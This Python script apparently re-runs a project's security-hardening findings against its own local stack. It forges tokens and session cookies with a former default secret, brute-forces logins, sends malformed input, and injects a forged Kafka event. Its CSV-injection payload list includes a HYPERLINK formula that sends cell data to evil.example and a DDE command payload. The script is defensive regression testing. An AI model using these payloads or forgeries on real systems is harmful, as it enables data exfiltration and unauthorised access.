"""The probes of issue 18 (security hardening), run against a fresh local stack as an outsider and as a
hostile tenant would: `.venv/bin/python tests/security/probe.py [--out probes.json]`.

It starts an ephemeral stack (`pacte_cli.stack.Stack`), plays `scenarios/small.jsonl`, runs every probe
and prints one line per probe: what was sent, what came back, and whether the finding still holds
(`OPEN`) or not (`fixed`). The automated tests of each finding are listed in docs/security.md; this
script is the outsider's view of the same findings, re-run by hand before a release.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import hashlib
import hmac
import json
import re
import secrets
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import asyncpg
import httpx

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT.parent / "shared" / "scenarios" / "small.jsonl"
#: The secret that was written in the source before issue 18 (settings.py and stack.py).
SOURCE_DEFAULT_SECRET = "pacte-local-development-secret-change-me"
BACKEND = ("procurement", "attendance", "billing", "improvement", "indicators")


@dataclass
class Finding:
    name: str
    holds: bool
    evidence: str


@dataclass
class Probes:
    state: Any
    findings: list[Finding] = field(default_factory=list)

    def __post_init__(self) -> None:
        from pacte_platform.auth import issue_token

        self.urls = {name: self.state.url(name) for name in self.state.services}
        self.bo = {"Authorization": "Bearer " + issue_token(self.state.auth_secret, "probe", ["buyer", "finance",
                                                                                              "steering"])}
        self.client = httpx.Client(timeout=60)

    def record(self, name: str, holds: bool, evidence: str) -> None:
        self.findings.append(Finding(name, holds, evidence))
        print(f"{'OPEN ' if holds else 'fixed'}  {name}: {evidence}", flush=True)

    def key_of(self, organisation: str) -> str:
        response = self.client.post(f"{self.urls['attendance']}/back-office/organisations/{organisation}/keys",
                                    headers={**self.bo, "Idempotency-Key": secrets.token_hex(8)})
        response.raise_for_status()
        return str(response.json()["api_key"])

    def status(self, method: str, url: str, **kwargs: Any) -> int:
        """The answer's status; 599 when the connection broke (the server died or reset it)."""
        try:
            return self.client.request(method, url, **kwargs).status_code
        except httpx.TransportError:
            return 599


# --- high: default secret, forged cookie, development passwords ------------------------------------------

def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _forged_cookie(secret: str, token: str) -> str:
    """The gateway's session cookie as it was signed before issue 18 (key derived from the auth secret)."""
    key = hashlib.sha256(f"pacte-gateway-session\x1f{secret}".encode()).digest()
    payload = _b64(json.dumps({"u": "forger", "r": ["finance"], "t": token, "c": "x",
                               "e": int(time.time()) + 3600}, separators=(",", ":")).encode())
    return f"{payload}.{_b64(hmac.new(key, payload.encode(), hashlib.sha256).digest())}"


def default_secret(p: Probes) -> None:
    from pacte_platform.auth import issue_token

    forged = issue_token(SOURCE_DEFAULT_SECRET, "forger", ["finance"])
    invoices = p.client.get(p.urls["billing"] + "/invoices", headers=p.bo).json()
    issued = next((i for i in invoices if i["status"] == "issued"), invoices[0] if invoices else None)
    target = (f"/orders/{issued['order_id']}/invoices/{issued['period']}/approve" if issued else "/invoices")
    method = "POST" if issued else "GET"
    status = p.status(method, p.urls["billing"] + target, headers={"Authorization": f"Bearer {forged}"})
    p.record("token signed with the source's default secret", status < 300, f"{method} billing {target} -> {status}")
    cookie = _forged_cookie(SOURCE_DEFAULT_SECRET, forged)
    answer = p.client.get(p.urls["gateway"] + "/facturation", cookies={"pacte_session": cookie})
    p.record("forged gateway cookie", answer.status_code == 200, f"GET /facturation -> {answer.status_code}")
    login = p.client.get(p.urls["gateway"] + "/connexion").text
    p.record("development passwords on the login page", "pacte-dev" in login,
             f"'pacte-dev' {'shown' if 'pacte-dev' in login else 'not shown'}")
    stack_json = (Path(p.state.root) / "stack.json").read_text()
    p.record("secret in stack.json", SOURCE_DEFAULT_SECRET in stack_json or '"auth_secret"' in stack_json,
             "stack.json " + ("holds" if '"auth_secret"' in stack_json else "does not hold") + " the auth secret")
    secrets_file = Path(p.state.root) / "secrets.json"
    if secrets_file.exists():
        mode = secrets_file.stat().st_mode & 0o777
        p.record("stack secrets readable by others", mode != 0o600, f"secrets.json mode {mode:o}")


# --- medium: CSV injection ------------------------------------------------------------------------------

CSV_PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
                "@SUM(1+1)", "\tTAB=1+1", "\rCR=1+1")


def csv_injection(p: Probes) -> None:
    plan = p.client.get(p.urls["improvement"] + "/plans", headers=p.bo).json()[0]
    key = p.key_of(plan["organisation_id"])
    _wait_for_key(p, key)
    for n, payload in enumerate(CSV_PAYLOADS):
        response = p.client.post(p.urls["improvement"] + f"/v1/plans/{plan['plan_id']}/dropout-actions",
                                 headers={"X-Api-Key": key, "Idempotency-Key": secrets.token_hex(8)},
                                 json={"year": 2019, "reason_addressed": "other", "description": payload,
                                       "owner_role": payload if n < 2 else "référent", "due_on": "2019-12-01"})
        if response.status_code >= 300:
            print(f"  (dropout action refused: {response.status_code} {response.text[:200]})")
    export = p.client.get(p.urls["improvement"] + "/dropout-action-plans/export",
                          params={"year": 2019, "format": "csv"}, headers=p.bo).text
    p.record("formula cells in improvement's dropout-action export", _formula_cells(export) > 0,
             f"{_formula_cells(export)} cells start with = + - @ tab or CR")
    via_gateway = _gateway_session(p, "chloe")
    if via_gateway is not None:
        text = via_gateway.get(p.urls["gateway"] + "/plans/export", params={"annee": 2019}).text
        p.record("formula cells through the gateway", _formula_cells(text) > 0,
                 f"{_formula_cells(text)} cells start with = + - @ tab or CR")


def _formula_cells(text: str) -> int:
    import csv
    import io

    return sum(1 for row in csv.reader(io.StringIO(text, newline="")) for cell in row
               if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell))


def _wait_for_key(p: Probes, key: str) -> None:
    for _ in range(100):
        if p.status("GET", p.urls["improvement"] + "/v1/plans", headers={"X-Api-Key": key}) != 401:
            return
        time.sleep(0.1)


def _gateway_session(p: Probes, user: str, password: str | None = None) -> httpx.Client | None:
    """A browser signed in as a development user (password from the stack in development mode)."""
    password = password or getattr(p.state, "dev_password", None) or "pacte-dev"
    browser = httpx.Client(timeout=60, follow_redirects=False)
    browser.get(p.urls["gateway"] + "/connexion")
    csrf = browser.cookies.get("pacte_login_csrf")
    response = browser.post(p.urls["gateway"] + "/connexion",
                            data={"csrf": csrf, "identifiant": user, "mot_de_passe": password, "suite": "/"})
    return browser if response.status_code == 303 else None


# --- medium: metrics and internal routes -----------------------------------------------------------------

def metrics(p: Probes) -> None:
    response = p.client.get(p.urls["indicators"] + "/metrics")
    business = [line for line in response.text.splitlines() if line.startswith("pacte_") and "organisation" in line]
    p.record("indicators' /metrics without credentials", response.status_code == 200,
             f"{response.status_code}, {len(business)} per-organisation series")
    for service in ("procurement", "billing", "opendata"):
        p.record(f"{service}' /metrics without credentials", p.status("GET", p.urls[service] + "/metrics") == 200,
                 f"{p.status('GET', p.urls[service] + '/metrics')}")
    status = p.status("GET", p.urls["indicators"] + "/internal/quiet")
    p.record("/internal/quiet without credentials", status == 200, f"{status}")


# --- medium: login throttling ------------------------------------------------------------------------------

def throttling(p: Probes) -> None:
    browser = httpx.Client(timeout=60, follow_redirects=False)
    statuses = []
    started = time.monotonic()
    retry_after = None
    for n in range(26):
        browser.get(p.urls["gateway"] + "/connexion")
        password = "wrong" if n < 25 else (getattr(p.state, "dev_password", None) or "pacte-dev")
        response = browser.post(p.urls["gateway"] + "/connexion",
                                data={"csrf": browser.cookies.get("pacte_login_csrf"), "identifiant": "bruno",
                                      "mot_de_passe": password, "suite": "/"})
        statuses.append(response.status_code)
        retry_after = response.headers.get("retry-after") or retry_after
    seconds = time.monotonic() - started
    throttled = statuses.count(429)
    p.record("no login throttling", throttled == 0,
             f"25 wrong then the right password: {throttled} answered 429 (Retry-After {retry_after}), "
             f"last {statuses[-1]}, {seconds:.1f}s")


# --- medium: audit of refusals -------------------------------------------------------------------------------

async def _audit_rows(database_url: str) -> dict[str, list[dict[str, Any]]]:
    conn = await asyncpg.connect(database_url)
    try:
        return {s: [dict(r) for r in await conn.fetch(
            f'SELECT actor, role, after FROM "{s}".audit_log WHERE action = \'refused\' ORDER BY id')]
            for s in BACKEND}
    finally:
        await conn.close()


def audit(p: Probes) -> None:
    from pacte_platform.auth import issue_token

    auditor = issue_token(p.state.auth_secret, "probe-auditor", ["auditor"])
    victim_key = p.key_of("OF-LYON-NUM")
    victim_id = victim_key.split("_")[1]
    time.sleep(1.0)
    before = asyncio.run(_audit_rows(p.state.database_url))
    forged = {"Authorization": f"Bearer {auditor}", "X-Api-Key": f"pk_{victim_id}_not-the-secret"}
    attempts = {"procurement": ("POST", "/tenders"), "attendance": ("POST", "/back-office/trainees/forget"),
                "improvement": ("POST", "/milestones/M-1/validate"), "indicators": ("GET", "/indicators")}
    answers = {s: p.status(m, p.urls[s] + path, headers=forged, json={}) for s, (m, path) in attempts.items()}
    after = asyncio.run(_audit_rows(p.state.database_url))
    new = {s: after[s][len(before[s]):] for s in BACKEND}
    blamed = [s for s, rows in new.items() if any(r["actor"] == "OF-LYON-NUM" for r in rows)]
    missing = [s for s in attempts if answers[s] == 403 and not new[s]]
    p.record("refusal blamed on the organisation an unverified key id names", bool(blamed),
             f"answers {answers}; blamed on OF-LYON-NUM in {blamed or 'none'}")
    p.record("refusal audit write fails (no row)", bool(missing), f"403 without an audit row in {missing or 'none'}")


# --- low: 500 on bad input ---------------------------------------------------------------------------------------

def server_errors(p: Probes) -> None:
    from pacte_platform.auth import _b64 as b64  # the token's own encoding

    deep = b"[" * 50_000 + b"]" * 50_000
    deep_object = b'{"a":' * 20_000 + b"1" + b"}" * 20_000
    key = p.key_of("OF-LYON-NUM")
    _wait_for_key(p, key)
    org = {"X-Api-Key": key}
    cases: list[tuple[str, str, str, dict[str, Any]]] = [
        ("deep JSON array", "POST", p.urls["procurement"] + "/tenders", {"content": deep, "headers": p.bo}),
        ("deep JSON object", "POST", p.urls["procurement"] + "/organisations", {"content": deep_object,
                                                                                 "headers": p.bo}),
        ("deep JSON", "POST", p.urls["attendance"] + "/v1/sessions/S-DIG-1/open-days", {"content": deep,
                                                                                         "headers": org}),
        ("deep JSON", "POST", p.urls["improvement"] + "/v1/plans", {"content": deep, "headers": org}),
        ("deep JSON", "POST", p.urls["improvement"] + "/plans/PAS-1/amendments/1/accept",
         {"content": deep, "headers": p.bo}),
        ("year 0", "GET", p.urls["improvement"] + "/dropout-action-plans/export?year=0", {"headers": p.bo}),
        ("year 10000", "GET", p.urls["improvement"] + "/dropout-action-plans/export?year=10000", {"headers": p.bo}),
        ("year huge", "GET", p.urls["improvement"] + "/dropout-action-plans/export?year=99999999999999999999",
         {"headers": p.bo}),
        ("year 0", "GET", p.urls["improvement"] + "/plans/PAS-1/dropout-action-plans/0", {"headers": p.bo}),
        ("year 10000", "GET", p.urls["improvement"] + "/v1/plans/PAS-1/dropout-action-plans/10000",
         {"headers": org}),
        ("from=9999-12-31", "GET", p.urls["procurement"] + "/catalogue?from=9999-12-31", {"headers": p.bo}),
        ("from=0001-01-01", "GET", p.urls["procurement"] + "/catalogue?from=0001-01-01", {"headers": p.bo}),
        ("hours_per_day 1e308", "POST", p.urls["procurement"] + "/sessions", {"headers": p.bo, "content": (
            b'{"session_id":"S-PROBE","order_id":"BC-1","starts_on":"2019-11-04","ends_on":"2019-11-05",'
            b'"planned_days":["2019-11-04"],"hours_per_day":1e308,"capacity":5,"place":"x"}')}),
        ("3 MB CSV field", "POST", p.urls["attendance"] + "/v1/sessions/S-DIG-1/attendance-sheet",
         {"headers": org, "content": b"trainee_id;date;hours_present;absence\n" + b"T" * 3_000_000
          + b";2019-09-23;7;\n"}),
        ("3 MB quoted CSV field", "POST", p.urls["attendance"] + "/v1/sessions/S-DIG-1/attendance-sheet",
         {"headers": org, "content": b'trainee_id;date;hours_present;absence\n"' + b"T" * 3_000_000
          + b'";2019-09-23;7;\n'}),
    ]
    for label, claims in (("roles null", {"sub": "x", "roles": None, "exp": int(time.time()) + 60}),
                          ("exp 1e400", b'{"sub":"x","roles":["auditor"],"exp":1e400}'),
                          ("exp string", {"sub": "x", "roles": ["auditor"], "exp": "soon"}),
                          ("sub missing", {"roles": ["auditor"], "exp": int(time.time()) + 60}),
                          ("payload not JSON", b"\xff\xfe"),
                          ("roles a string", {"sub": "x", "roles": "auditor", "exp": int(time.time()) + 60})):
        raw = claims if isinstance(claims, bytes) else json.dumps(claims).encode()
        payload = b64(raw)
        signature = b64(hmac.new(p.state.auth_secret.encode(), payload.encode(), hashlib.sha256).digest())
        cases.append((f"signed token, {label}", "GET", p.urls["indicators"] + "/indicators",
                      {"headers": {"Authorization": f"Bearer bo1.{payload}.{signature}"}}))
    five_hundreds = []
    for label, method, url, kwargs in cases:
        status = p.status(method, url, **kwargs)
        if status >= 500:
            five_hundreds.append(f"{label} on {url.split('/', 3)[-1][:50]}")
        print(f"    {status}  {label}  {method} {url.split(':', 2)[-1][:80]}")
    p.record("500 on bad input", bool(five_hundreds), f"{len(five_hundreds)} of {len(cases)}: {five_hundreds}")


def nonsense(p: Probes) -> None:
    key = p.key_of("OF-LYON-NUM")
    _wait_for_key(p, key)
    org = {"X-Api-Key": key}
    tender = {"reference": "R", "title": "t", "axis": "qualifying", "procedure": "open", "budget_cents": 100,
              "starts_on": "2019-09-01", "ends_on": "2020-08-31"}
    cases: list[tuple[str, str, str, dict[str, Any]]] = [
        ("10,000-character id", "POST", "/tenders", {**tender, "tender_id": "T" * 10_000}),
        ("control characters in an id", "POST", "/tenders", {**tender, "tender_id": "T-\x00\x07\x1b"}),
        ("id with '/'", "POST", "/tenders", {**tender, "tender_id": "T/../x"}),
        ("5 MB text", "POST", "/tenders", {**tender, "tender_id": "T-BIG", "title": "x" * 5_000_000}),
        ("date in year 9999", "POST", "/tenders", {**tender, "tender_id": "T-9999", "ends_on": "9999-12-31"}),
        ("amount 2^62", "POST", "/tenders", {**tender, "tender_id": "T-HUGE", "budget_cents": 2 ** 62}),
    ]
    accepted = []
    for label, method, path, body in cases:
        response = p.client.request(method, p.urls["procurement"] + path, json=body,
                                    headers={**p.bo, "Idempotency-Key": secrets.token_hex(8)})
        if response.status_code < 300:
            accepted.append(label)
        print(f"    {response.status_code}  {label}")
    trainer = p.client.post(p.urls["attendance"] + "/v1/sessions/S-DIG-1/trainer-hours", headers=org,
                            json={"trainer_id": "F" * 10_000, "date": "2019-09-23", "hours": 1})
    print(f"    {trainer.status_code}  10,000-character trainer id")
    if trainer.status_code < 300:
        accepted.append("10,000-character trainer id")
    plan = {"plan_id": "PAS-PROBE", "organisation_id": "OF-LYON-NUM", "lot_id": "L-69-DIG", "order_id": "BC-1",
            "diagnosis": {}, "milestones": [{"milestone_id": "M-PROBE", "dimension": "satisfaction",
                                             "description": "x", "due_on": "2019-12-31", "bonus_cents": 0,
                                             "target": {"indicator": "satisfaction_avg", "scope": "lot",
                                                        "comparator": ">=", "threshold": 1e308,
                                                        "min_sample": 0}}]}
    threshold = p.client.post(p.urls["improvement"] + "/v1/plans", headers=org, json=plan)
    print(f"    {threshold.status_code}  threshold 1e308")
    if threshold.status_code < 300:
        accepted.append("threshold 1e308")
    p.record("nonsense accepted", bool(accepted), f"{len(accepted)} accepted: {accepted}")


# --- low: sessions ---------------------------------------------------------------------------------------------------

def sessions(p: Probes) -> None:
    browser = _gateway_session(p, "alice")
    if browser is None:
        p.record("logout ends the session", True, "could not sign in as alice")
        return
    cookie = browser.cookies.get("pacte_session")
    secure = any(c.secure for c in browser.cookies.jar if c.name == "pacte_session")
    page = browser.get(p.urls["gateway"] + "/appels-offres")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    browser.post(p.urls["gateway"] + "/deconnexion", data={"csrf": csrf.group(1) if csrf else ""})
    replay = httpx.get(p.urls["gateway"] + "/appels-offres", cookies={"pacte_session": cookie or ""})
    p.record("the cookie works after logout", replay.status_code == 200, f"GET /appels-offres -> {replay.status_code}")
    # The local stack serves plain HTTP in development mode; the default that matters is production's.
    from pacte_gateway.settings import GatewaySettings

    production = GatewaySettings.model_validate({"PACTE_DEV_MODE": "0"}).cookies_secure
    p.record("no Secure flag by default", not production, f"Secure outside development: {production}; on this "
             f"development stack: {'yes' if secure else 'no'}")
    token_inside = False
    if cookie and "." in cookie:
        try:
            token_inside = "bo1." in base64.urlsafe_b64decode(cookie.split(".")[0] + "===").decode(errors="replace")
        except ValueError:
            token_inside = False
    p.record("a bearer token inside the cookie", token_inside,
             f"cookie {'carries' if token_inside else 'has no'} token")


# --- low: keys and tenancy -----------------------------------------------------------------------------------------

def tenancy(p: Probes) -> None:
    response = p.client.post(p.urls["attendance"] + "/back-office/organisations/OF-DOES-NOT-EXIST/keys",
                             headers={**p.bo, "Idempotency-Key": secrets.token_hex(8)})
    p.record("a key for an organisation that does not exist", response.status_code == 201,
             f"-> {response.status_code}")
    other = p.key_of("OF-ISERE-BTP")
    _wait_for_key(p, other)
    foreign = p.status("GET", p.urls["improvement"] + "/v1/plans/PAS-1", headers={"X-Api-Key": other})
    absent = p.status("GET", p.urls["improvement"] + "/v1/plans/PAS-NOPE", headers={"X-Api-Key": other})
    p.record("another tenant's plan told from an absent one", foreign != absent,
             f"foreign plan {foreign}, absent plan {absent}")
    session_foreign = p.status("GET", p.urls["attendance"] + "/v1/sessions/S-DIG-1", headers={"X-Api-Key": other})
    session_absent = p.status("GET", p.urls["attendance"] + "/v1/sessions/S-NOPE", headers={"X-Api-Key": other})
    p.record("another tenant's session told from an absent one (read)", session_foreign != session_absent,
             f"foreign {session_foreign}, absent {session_absent}")
    squat = p.client.post(p.urls["improvement"] + "/v1/plans", headers={"X-Api-Key": other}, json={
        "plan_id": "PAS-SQUAT", "organisation_id": "OF-ISERE-BTP", "lot_id": "L-38-BTP", "order_id": "BC-3",
        "diagnosis": {}, "milestones": [{"milestone_id": "M-1", "dimension": "satisfaction", "description": "x",
                                         "due_on": "2019-12-31", "bonus_cents": 0, "target": None}]})
    detail = squat.json().get("detail", "") if squat.headers.get("content-type", "").endswith("json") else ""
    # The caller's own id may be repeated; whose it is, or that it exists elsewhere, may not.
    p.record("an id another organisation uses is named as such", "exist" in detail or "PAS-1" in detail
             or "another organisation" in detail or "OF-LYON" in detail, f"{squat.status_code} {detail[:120]!r}")


# --- info: Kafka ------------------------------------------------------------------------------------------------

def kafka(p: Probes) -> None:
    from aiokafka import AIOKafkaProducer

    from pacte_contracts.attendance import OrganisationKeyIssued
    from pacte_contracts.envelope import wrap
    from pacte_platform.auth import new_api_key

    key = new_api_key()

    async def produce() -> str:
        producer = AIOKafkaProducer(bootstrap_servers=p.state.bootstrap, request_timeout_ms=5000)
        try:
            await asyncio.wait_for(producer.start(), 10)
            event = OrganisationKeyIssued(organisation_id="OF-LYON-NUM", key_id=key.key_id, key_sha256=key.sha256)
            envelope = wrap(event, producer="attendance")
            await asyncio.wait_for(producer.send_and_wait(
                event.TOPIC, envelope.model_dump_json().encode(), key=envelope.key.encode(),
                headers=[("event_type", envelope.type.encode()), ("event_id", str(envelope.event_id).encode())]), 10)
            return "sent"
        except Exception as exc:
            return f"refused ({type(exc).__name__})"
        finally:
            try:
                await asyncio.wait_for(producer.stop(), 5)
            except Exception:  # noqa: S110
                pass

    sent = asyncio.run(produce())
    p.record("an anonymous client writes to the broker", sent == "sent", f"OrganisationKeyIssued {sent}")
    status = 401
    for _ in range(30):
        status = p.status("GET", p.urls["billing"] + "/v1/invoices", headers={"X-Api-Key": key.secret_key})
        if status != 401:
            break
        time.sleep(0.2)
    p.record("a forged OrganisationKeyIssued opens billing", status == 200, f"GET /v1/invoices with it -> {status}")


PROBES: tuple[Callable[[Probes], None], ...] = (default_secret, csv_injection, metrics, throttling, audit,
                                                server_errors, nonsense, sessions, tenancy, kafka)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", type=Path, help="Writes the findings as JSON here.")
    args = parser.parse_args()
    from pacte_cli.quiet import close_probes
    from pacte_cli.scenario.player import Player, read_lines
    from pacte_cli.stack import Stack

    stack = Stack(ephemeral=True, log=lambda m: print(f"[stack] {m}", file=sys.stderr))
    try:
        state = stack.up()

        async def play() -> None:
            async with httpx.AsyncClient(timeout=60) as client:
                player = Player.on_stack(state, client)  # with the stack's scrape token and Kafka principal
                try:
                    await player.play(read_lines(SMALL))
                finally:
                    await close_probes()

        asyncio.run(play())
        probes = Probes(state)
        for probe in PROBES:
            try:
                probe(probes)
            except Exception as exc:  # a probe that cannot run says so, the others still run
                probes.record(probe.__name__, True, f"probe failed: {type(exc).__name__}: {exc}"[:300])
        open_findings = [f for f in probes.findings if f.holds]
        print(f"\n{len(probes.findings) - len(open_findings)} fixed, {len(open_findings)} open")
        if args.out:
            args.out.write_text(json.dumps([f.__dict__ for f in probes.findings], indent=1, ensure_ascii=False))
    finally:
        stack.down()


if __name__ == "__main__":
    main()
